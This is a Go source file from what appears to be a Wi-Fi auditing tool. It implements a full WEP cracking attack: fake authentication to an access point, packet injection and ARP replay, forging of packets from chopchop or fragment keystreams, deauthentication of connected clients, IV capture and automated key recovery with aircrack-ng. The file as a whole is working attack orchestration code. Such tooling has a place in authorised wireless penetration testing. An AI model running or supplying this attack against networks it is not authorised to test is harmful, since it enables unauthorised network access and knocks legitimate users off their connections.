package attack

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/bytebuggy/bytebuggy/internal/config"
	"github.com/bytebuggy/bytebuggy/internal/result"
	"github.com/bytebuggy/bytebuggy/internal/scan"
	"github.com/bytebuggy/bytebuggy/internal/telemetry"
	"github.com/bytebuggy/bytebuggy/pkg/wifi"
)

const pollInterval = time.Second

// WEPAttack runs the configured injection techniques against a WEP network
// while collecting IVs, and cracks the key once enough have been captured.
type WEPAttack struct {
	cfg  config.WEPConfig
	deps Deps
}

func NewWEPAttack(cfg config.WEPConfig, deps Deps) *WEPAttack {
	return &WEPAttack{cfg: cfg, deps: deps}
}

func (w *WEPAttack) Name() string {
	return "WEP"
}

type techniqueOutcome int

const (
	nextTechnique techniqueOutcome = iota
	abandonTarget
)

// wepRun is the state of one WEP attack against one target.
type wepRun struct {
	cfg  config.WEPConfig
	deps Deps

	key     string
	db      *scan.TargetDB
	capture scan.CaptureHandle

	queue      []wifi.WEPTechnique
	ivs        ivCounter
	clientMAC  string
	replayFile string

	fakeauth  InjectionHandle
	injection InjectionHandle
	recovery  RecoveryHandle
}

// Run returns the recovered key, or nil when every technique failed or the
// operator moved on. Only ErrFakeAuthRequired, ErrAborted and context errors
// are returned as errors once the capture is running.
func (w *WEPAttack) Run(ctx context.Context, target *wifi.Target) (*result.CrackResult, error) {
	capture, err := w.deps.Capture.Start(ctx, scan.CaptureRequest{
		Channel: target.Channel,
		BSSID:   target.Key(),
		IVsOnly: true,
		Prefix:  "wep",
	})
	if err != nil {
		return nil, fmt.Errorf("start WEP capture: %w", err)
	}

	// IVs from the scan belong to another capture session.
	seed := target.Clone()
	seed.IVs = 0

	r := &wepRun{
		cfg:     w.cfg,
		deps:    w.deps,
		key:     target.Key(),
		db:      scan.NewTargetDB(),
		capture: capture,
		queue:   slices.Clone(w.cfg.Techniques),
	}
	r.db.Seed(seed)
	defer r.close()

	if err := r.authenticate(ctx); err != nil {
		return nil, err
	}

	for len(r.queue) > 0 {
		tech := r.queue[0]
		r.queue = r.queue[1:]

		res, outcome, err := r.runTechnique(ctx, tech)
		if err != nil || res != nil {
			return res, err
		}
		if outcome == abandonTarget {
			return nil, nil
		}
	}

	slog.Info("all WEP techniques exhausted", "bssid", r.key)
	return nil, nil
}

func (r *wepRun) target() *wifi.Target {
	return r.db.Get(r.key)
}

func (r *wepRun) authenticate(ctx context.Context) error {
	t := r.target()
	slog.Info("attempting fake authentication", "bssid", r.key)

	if r.deps.Injection.FakeAuth(ctx, t, r.cfg.FakeAuthTimeout) {
		r.clientMAC = r.deps.Session.AttackerMAC
		h, err := r.deps.Injection.Start(ctx, InjectionRequest{Target: t.Clone(), Technique: wifi.TechFakeAuth, ClientMAC: r.clientMAC})
		if err != nil {
			slog.Warn("could not start fake authentication keep-alive", "bssid", r.key, "err", err)
		} else {
			r.fakeauth = h
		}
		return nil
	}

	if r.cfg.RequireFakeAuth {
		return fmt.Errorf("%w: %s did not associate within %s", ErrFakeAuthRequired, r.key, r.cfg.FakeAuthTimeout)
	}
	slog.Warn("unable to fake-authenticate, continuing without it", "bssid", r.key)

	if len(t.Clients) > 0 {
		r.clientMAC = t.Clients[0].Key()
		slog.Info("injecting as associated client", "client", r.clientMAC)
	} else {
		slog.Warn("no associated clients, many attacks will not succeed without fake-authentication", "bssid", r.key)
	}
	return nil
}

func (r *wepRun) runTechnique(ctx context.Context, tech wifi.WEPTechnique) (*result.CrackResult, techniqueOutcome, error) {
	// requested stays the queued technique after a switch to forged replay.
	requested := tech
	if err := r.startInjection(ctx, tech); err != nil {
		slog.Warn("could not start technique", "technique", tech.String(), "err", err)
		return nil, nextTechnique, nil
	}
	defer r.stopInjection()

	clk := r.deps.Clock
	started := clk.Now()
	watchdog := newStaleWatchdog(r.cfg.RestartStaleIVs, r.target().IVs, started)

	for {
		now := clk.Now()
		t := r.refresh()
		total := r.ivs.Total()
		r.report(tech, t, total)

		if r.recovery != nil && r.recovery.Cracked() {
			return r.cracked(t, tech), nextTechnique, nil
		}
		r.superviseRecovery(ctx, total)

		alive := r.injection.Alive()
		switch {
		case !alive && tech.ProducesKeystream():
			if !r.forge(ctx, tech) {
				return nil, nextTechnique, nil
			}
			tech = wifi.TechForgedReplay
			started = now
			watchdog.Reset(t.IVs, now)

		case !alive:
			slog.Warn("aireplay-ng exited unexpectedly", "technique", tech.String(), "status", r.injection.Status())
			return nil, nextTechnique, nil

		case !tech.ProducesKeystream() && watchdog.Observe(t.IVs, now):
			slog.Info("restarting injection, no new IVs", "technique", tech.String(), "after", r.cfg.RestartStaleIVs)
			telemetry.ProcessRestarts.WithLabelValues(telemetry.ReasonStaleIVs).Inc()
			r.stopInjection()
			if err := r.startInjection(ctx, tech); err != nil {
				slog.Warn("could not restart technique", "technique", tech.String(), "err", err)
				return nil, nextTechnique, nil
			}
		}

		if r.cfg.Timeout > 0 && now.Sub(started) > r.cfg.Timeout {
			slog.Warn("technique timed out", "technique", tech.String(), "timeout", r.cfg.Timeout)
			return nil, nextTechnique, nil
		}
		if !r.capture.Alive() {
			slog.Warn("capture process exited, giving up on target", "bssid", r.key)
			return nil, abandonTarget, nil
		}

		if err := clk.Sleep(ctx, pollInterval); err != nil {
			return nil, abandonTarget, err
		}
		if r.deps.Session.Interrupted() {
			r.stopInjection()
			outcome, err := r.menu(ctx, requested)
			return nil, outcome, err
		}
	}
}

// refresh merges the latest capture snapshot and updates the IV total.
func (r *wepRun) refresh() *wifi.Target {
	if snap, err := r.capture.Snapshot(); err != nil {
		slog.Debug("capture snapshot not ready", "err", err)
	} else {
		r.db.Merge(snap)
	}

	t := r.target()
	r.ivs.Observe(t.IVs)
	if r.clientMAC == "" && len(t.Clients) > 0 {
		r.clientMAC = t.Clients[0].Key()
		slog.Info("injecting as associated client", "client", r.clientMAC)
	}
	return t
}

func (r *wepRun) report(tech wifi.WEPTechnique, t *wifi.Target, total int) {
	status := fmt.Sprintf("%d/%d IVs", total, r.cfg.CrackAtIVs)
	if r.fakeauth != nil {
		if r.fakeauth.Alive() {
			status += ", fakeauth"
		} else {
			status += ", no-auth"
		}
	}
	if r.injection != nil {
		if s := r.injection.Status(); s != "" {
			status += ", " + s
		}
	}
	if r.recovery != nil && r.recovery.Alive() {
		status += ", cracking"
	}

	progress := 1.0
	if r.cfg.CrackAtIVs > 0 {
		progress = min(1, float64(total)/float64(r.cfg.CrackAtIVs))
	}
	telemetry.IVsCollected.WithLabelValues(r.key).Set(float64(total))
	r.deps.send(StatusUpdate{Attack: "WEP", Target: t.Name(), Technique: tech.String(), Message: status, Progress: progress})
}

// superviseRecovery starts the key recovery tool once enough IVs are in, and
// restarts it when it has run too long so newer IVs are picked up.
func (r *wepRun) superviseRecovery(ctx context.Context, total int) {
	if total <= r.cfg.CrackAtIVs {
		return
	}
	if r.recovery != nil && r.recovery.Alive() {
		if r.cfg.RestartRecovery <= 0 || r.recovery.RunningTime() <= r.cfg.RestartRecovery {
			return
		}
		slog.Info("restarting aircrack-ng", "bssid", r.key, "ran", r.recovery.RunningTime())
		telemetry.ProcessRestarts.WithLabelValues(telemetry.ReasonRecoveryRuntime).Inc()
	}
	r.stopRecovery()

	files, err := r.capture.Artifacts(".ivs")
	if err != nil || len(files) == 0 {
		slog.Debug("no IV files to crack yet", "bssid", r.key, "err", err)
		return
	}
	if !r.cfg.KeepIVs {
		files = files[len(files)-1:]
	}
	h, err := r.deps.Recovery.Start(ctx, files)
	if err != nil {
		slog.Warn("could not start key recovery", "bssid", r.key, "err", err)
		return
	}
	r.recovery = h
}

func (r *wepRun) cracked(t *wifi.Target, tech wifi.WEPTechnique) *result.CrackResult {
	hex, ascii := r.recovery.Key()
	slog.Info("WEP attack successful", "bssid", r.key, "technique", tech.String())
	r.stopInjection()
	r.stopFakeAuth()

	essid := ""
	if t.ESSIDKnown {
		essid = t.ESSID
	}
	return result.NewWEP(r.key, essid, hex, ascii)
}

// forge turns the keystream left by chopchop or fragment into a forged ARP
// packet and starts replaying it.
func (r *wepRun) forge(ctx context.Context, tech wifi.WEPTechnique) bool {
	status := r.injection.Status()
	r.stopInjection()

	xor, ok := r.deps.Injection.FindXor()
	if !ok {
		slog.Warn("technique did not generate a keystream file", "technique", tech.String(), "status", status)
		return false
	}
	slog.Info("keystream captured, forging packet", "technique", tech.String(), "xor", xor)

	replay, err := r.deps.Injection.ForgePacket(ctx, xor, r.key, r.clientMAC)
	if err != nil {
		slog.Warn("could not forge packet", "technique", tech.String(), "err", err)
		return false
	}
	r.replayFile = replay

	if err := r.startInjection(ctx, wifi.TechForgedReplay); err != nil {
		slog.Warn("could not replay forged packet", "file", replay, "err", err)
		return false
	}
	slog.Info("forged packet, replaying", "file", replay)
	return true
}

// menu asks the operator what to do after an interrupt and reorders the queue.
func (r *wepRun) menu(ctx context.Context, current wifi.WEPTechnique) (techniqueOutcome, error) {
	t := r.target()
	name := t.Name()

	var b strings.Builder
	b.WriteString("Interrupted\nNext steps:\n")
	fmt.Fprintf(&b, "  1: Deauth clients and retry %s attack against %s\n", current, name)
	for i, tech := range r.queue {
		fmt.Fprintf(&b, "  %d: Start new %s attack against %s\n", i+2, tech, name)
	}
	last := len(r.queue) + 2
	fmt.Fprintf(&b, "  %d: Stop attacking, move onto next target\n", last)

	prompt := fmt.Sprintf("Select an option (1-%d): ", last)
	msg := b.String() + prompt
	for {
		answer, err := r.deps.Prompter.Ask(ctx, msg)
		if err != nil {
			if ctx.Err() != nil {
				return abandonTarget, ctx.Err()
			}
			return abandonTarget, fmt.Errorf("%w: %v", ErrAborted, err)
		}
		n, err := strconv.Atoi(strings.TrimSpace(answer))
		if err != nil || n < 1 || n > last {
			msg = fmt.Sprintf("Invalid input: must enter a number between 1-%d\n%s", last, prompt)
			continue
		}

		switch n {
		case 1:
			sent := deauthClients(ctx, r.deps.Injection, t, r.deps.Session.AttackerMAC)
			slog.Info("deauthenticated clients", "bssid", r.key, "sent", sent)
			r.queue = slices.Insert(r.queue, 0, current)
		case last:
			return abandonTarget, nil
		default:
			next := r.queue[n-2]
			r.queue = slices.Delete(r.queue, n-2, n-1)
			r.queue = slices.Insert(r.queue, 0, next)
		}
		return nextTechnique, nil
	}
}

func (r *wepRun) startInjection(ctx context.Context, tech wifi.WEPTechnique) error {
	if tech == wifi.TechForgedReplay && r.replayFile == "" {
		return errors.New("no forged packet to replay")
	}
	h, err := r.deps.Injection.Start(ctx, InjectionRequest{
		Target:     r.target().Clone(),
		Technique:  tech,
		ClientMAC:  r.clientMAC,
		ReplayFile: r.replayFile,
	})
	if err != nil {
		return err
	}
	r.injection = h
	return nil
}

func (r *wepRun) stopInjection() {
	if r.injection != nil {
		stopQuietly("injection", r.injection.Stop)
		r.injection = nil
	}
}

func (r *wepRun) stopFakeAuth() {
	if r.fakeauth != nil {
		stopQuietly("fakeauth", r.fakeauth.Stop)
		r.fakeauth = nil
	}
}

func (r *wepRun) stopRecovery() {
	if r.recovery != nil {
		stopQuietly("recovery", r.recovery.Stop)
		r.recovery = nil
	}
}

func (r *wepRun) close() {
	r.stopInjection()
	r.stopFakeAuth()
	r.stopRecovery()
	stopQuietly("capture", r.capture.Stop)
}

func stopQuietly(what string, stop func() error) {
	if err := stop(); err != nil {
		slog.Debug("stop failed", "process", what, "err", err)
	}
}
